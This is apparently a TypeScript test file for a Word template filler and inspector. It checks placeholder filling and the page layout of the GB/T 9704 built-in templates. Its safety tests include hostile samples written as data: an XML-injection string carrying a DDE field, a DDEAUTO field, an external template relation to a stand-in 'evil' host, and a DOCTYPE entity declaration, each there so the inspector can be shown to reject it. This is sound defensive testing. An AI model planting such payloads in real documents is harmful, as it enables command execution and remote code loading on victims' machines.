import type { WrittenValues } from '@gangmu/plan';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { builtInTemplateParts, GB9704 } from './built-in-templates.ts';
import { fillTemplate } from './fill-template.ts';
import { inspectTemplate } from './inspect-template.ts';
import { zipStream } from './zip-stream.ts';

async function builtIn(kind: 'breakdown' | 'ledger'): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of zipStream(builtInTemplateParts(kind))) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}
type Parts = Record<string, Uint8Array>;
const xmlOf = (bytes: Uint8Array, part = 'word/document.xml'): string =>
  strFromU8(unzipSync(bytes)[part] as Uint8Array);

/** The ledger's template with another body, or with further parts. */
async function withBody(body: string, more: Readonly<Record<string, string>> = {}): Promise<Uint8Array> {
  const parts: Parts = { ...unzipSync(await builtIn('ledger')) };
  const document = strFromU8(parts['word/document.xml'] as Uint8Array);
  parts['word/document.xml'] = strToU8(document.replace(/<w:body>.*(?=<w:sectPr)/su, `<w:body>${body}`));
  for (const [name, text] of Object.entries(more)) parts[name] = strToU8(text);
  return zipSync(parts);
}
const run = (text: string) => `<w:r><w:rPr><w:sz w:val="32"/></w:rPr><w:t>${text}</w:t></w:r>`;
const text = (said: string | null): WrittenValues[string] => ({ kind: 'text', text: said });

describe('a filled template', () => {
  it('finds placeholders that Word has cut into several runs', async () => {
    const template = await withBody(
      `<w:p>${run('关于{')}${run('{标')}<w:proofErr w:type="spellStart"/>${run('题}')}${run('}的通知')}</w:p>`,
    );
    const plain = xmlOf(await fillTemplate(template, { 标题: text('算力') })).replace(/<[^>]+>/gu, '');
    expect(plain).toBe('关于算力的通知');
  });

  it('never takes a text for markup or for another placeholder', async () => {
    const hostile = '</w:t></w:r><w:r><w:instrText>DDE</w:instrText> & {{正文}} ]]>';
    const template = await withBody(
      `<w:p>${run('{{标题}}')}</w:p><w:p>${run('{{正文}}')}</w:p><w:p>${run('{{表：台账}}')}</w:p>`,
    );
    const xml = xmlOf(
      await fillTemplate(template, {
        标题: text(hostile),
        正文: { kind: 'paragraphs', paragraphs: [{ level: 'body', text: hostile }] },
        '表：台账': {
          kind: 'table',
          table: { columns: [{ upper: null, head: hostile, share: 1 }], rows: [[hostile]], empty: '' },
        },
      }),
    );
    expect(xml).not.toContain('<w:instrText');
    expect(xml.match(/&lt;w:instrText&gt;/gu)).toHaveLength(4);
  });

  it('leaves out a line whose placeholder has nothing to say, and keeps what nobody knows', async () => {
    const template = await withBody(`<w:p>${run('抄送：{{抄送机关}}。')}</w:p><w:p>${run('{{不认识}}')}</w:p>`);
    const plain = xmlOf(await fillTemplate(template, { 抄送机关: text(null) })).replace(/<[^>]+>/gu, '');
    expect(plain).toBe('{{不认识}}');
  });
});

describe('a template that is handed in', () => {
  it('tells its placeholders with their places', async () => {
    const template = await withBody(`<w:p>${run('a')}</w:p><w:p>${run('见{{标')}${run('题}}')}</w:p>`);
    const { unsafe, placeholders } = await inspectTemplate(template, 'a.docx');
    expect(unsafe).toEqual([]);
    expect(placeholders).toEqual([{ name: '标题', part: 'body', paragraph: 2, text: '见{{标题}}' }]);
  });

  it.each([
    ['macros', '', { 'word/vbaProject.bin': 'x' }],
    ['embedded', '', { 'word/embeddings/oleObject1.bin': 'x' }],
    [
      'external',
      '',
      {
        'word/_rels/settings.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>',
      },
    ],
    ['field', '<w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>', {}],
  ] as const)('is refused where it holds %s', async (kind, body, more) => {
    const { unsafe } = await inspectTemplate(await withBody(body, more), 'a.docx');
    expect(unsafe.map((one) => one.kind)).toContain(kind);
  });

  it('is refused with a DOCTYPE in any part', async () => {
    const doctype = '<!DOCTYPE a [<!ENTITY b "c">]><a/>';
    await expect(inspectTemplate(await withBody('', { 'word/x.xml': doctype }), 'a.docx')).rejects.toMatchObject({
      code: 'entities',
    });
  });
});

describe('the templates that are shipped', () => {
  it('have the page of GB/T 9704: margins, grid, fixed pitch, odd and even feet', async () => {
    const bytes = await builtIn('breakdown');
    const xml = xmlOf(bytes);
    const mm = (name: string) =>
      Math.round((Number(new RegExp(`<w:pgMar[^>]*w:${name}="(\\d+)"`, 'u').exec(xml)?.[1]) / 1440) * 25.4);
    expect([mm('top'), mm('bottom'), mm('left'), mm('right')]).toEqual([37, 35, 28, 26]);
    expect(xml).toContain('w:w="11906" w:h="16838"');
    expect(xml).toMatch(/<w:docGrid w:type="linesAndChars" w:linePitch="579" w:charSpace="-8\d\d"\/>/u);
    expect(xml).toContain('<w:spacing w:line="560" w:lineRule="exact"/>');
    expect(Math.floor((((297 - 37 - 35) / 25.4) * 72) / GB9704.pitch)).toBe(22);
    expect(xmlOf(bytes, 'word/settings.xml')).toContain('<w:evenAndOddHeaders/>');
    expect(xmlOf(bytes, 'word/footer1.xml')).toContain('<w:jc w:val="right"/>');
    expect(xmlOf(bytes, 'word/footer2.xml')).toContain('<w:jc w:val="left"/>');
  });

  it.each(['breakdown', 'ledger'] as const)('are safe and sound: %s', async (kind) => {
    expect((await inspectTemplate(await builtIn(kind), 'a.docx')).unsafe).toEqual([]);
  });

  it('reports braces that never close and tables in sections too narrow for them', async () => {
    const section = (width: number, margin: number) =>
      `<w:sectPr><w:pgSz w:w="${width}" w:h="16838"/><w:pgMar w:left="${margin}" w:right="${margin}"/></w:sectPr>`;
    const upright = `<w:p><w:pPr>${section(11906, 1587)}</w:pPr></w:p>`;
    const across = `<w:p><w:pPr>${section(23811, 1134)}</w:pPr></w:p>`;
    const template = await withBody(
      `<w:p>${run('{{标题}}的{{计划名')}</w:p><w:p>${run('{{表：台账}}')}</w:p>${upright}<w:p>${run('{{表：指标}}')}</w:p>${across}<w:p>${run('{{表：试点}}')}</w:p>`,
    );
    const { placeholders } = await inspectTemplate(template, 'a.docx');
    expect(placeholders.map(({ name, paragraph, trouble }) => [name, paragraph, trouble])).toEqual([
      ['标题', 1, undefined],
      ['计划名', 1, 'unclosed'],
      ['表：台账', 2, 'narrow'],
      ['表：指标', 4, undefined],
      // The template's own last section lies across.
      ['表：试点', 6, undefined],
    ]);
  });

  it('finds nothing wrong with the templates that we ship', async () => {
    for (const kind of ['breakdown', 'ledger'] as const) {
      const { placeholders } = await inspectTemplate(await builtIn(kind), 'a.docx');
      expect(placeholders.filter((one) => one.trouble)).toEqual([]);
    }
  });
});
